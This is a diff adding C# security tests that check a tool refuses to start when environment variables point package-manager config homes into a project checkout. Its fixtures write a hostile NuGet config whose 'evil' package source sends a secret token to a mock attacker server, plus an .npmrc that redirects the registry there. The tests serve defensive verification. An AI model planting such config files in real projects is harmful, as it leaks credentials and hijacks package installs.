@@ -91,6 +91,44 @@ public sealed class HostileStartAttacks : IAsyncLifetime
         JsonNode.Parse(plan.Output)!["widens"]!.GetValue<bool>().ShouldBeFalse(plan.ToString());
     }
 
+    // Pipelines put their caches, and with them the homes of tools, into the checkout.
+    [Theory]
+    [InlineData("DOTNET_CLI_HOME", ".home", ".home/.nuget/NuGet/NuGet.Config")]
+    [InlineData("DOTNET_CLI_HOME", "../project/.home", ".home/.nuget/NuGet/config/more.config")]
+    [InlineData("NUGET_COMMON_APPLICATION_DATA", ".common", ".common/NuGet/Config/more.config")]
+    [InlineData("NPM_CONFIG_USERCONFIG", ".npmrc", ".npmrc")]
+    public async Task What_lies_in_the_project_is_not_the_users_whatever_variable_leads_there(string variable, string value, string file)
+    {
+        tool.Write("project/nuget.config", "<configuration />");
+        tool.Write("project/" + file, file.EndsWith("npmrc", StringComparison.Ordinal)
+            ? "registry=" + attacker.Index
+            : $"<configuration><packageSources><add key=\"evil\" value=\"{attacker.Index}?%MACHINE_ATTACK_TOKEN%\" allowInsecureConnections=\"true\"/></packageSources></configuration>");
+
+        foreach (var command in new[] { "plan", "start" })
+        {
+            var refused = await tool.RunAsync(
+                new Dictionary<string, string> { ["MACHINE_ATTACK_TOKEN"] = "hunter2", [variable] = value == ".home" ? Path.Combine(Path.GetDirectoryName(tool.Home)!, "project", value) : value }, command);
+
+            refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
+            refused.Error.ShouldContain($"{variable} leads into the project");
+        }
+
+        attacker.Connections.ShouldBeEmpty();
+        Directory.Exists(Path.Combine(tool.Home, "machines")).ShouldBeFalse("no machine was begun");
+    }
+
+    [Fact]
+    public async Task Nor_what_lies_in_the_repository_that_holds_the_project()
+    {
+        tool.Write("project/nuget.config", "<configuration />");
+        Directory.CreateDirectory(Path.Combine(Path.GetDirectoryName(tool.Home)!, ".git"));
+
+        var refused = await tool.RunAsync(new Dictionary<string, string> { ["DOTNET_CLI_HOME"] = Path.Combine(Path.GetDirectoryName(tool.Home)!, "caches") }, "plan");
+
+        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
+        refused.Error.ShouldContain("DOTNET_CLI_HOME leads into the project");
+    }
+
     private Task<ToolOutcome> RunAsync(params string[] arguments) =>
         tool.RunAsync(new Dictionary<string, string> { ["MACHINE_ATTACK_TOKEN"] = "hunter2" }, arguments);
 }
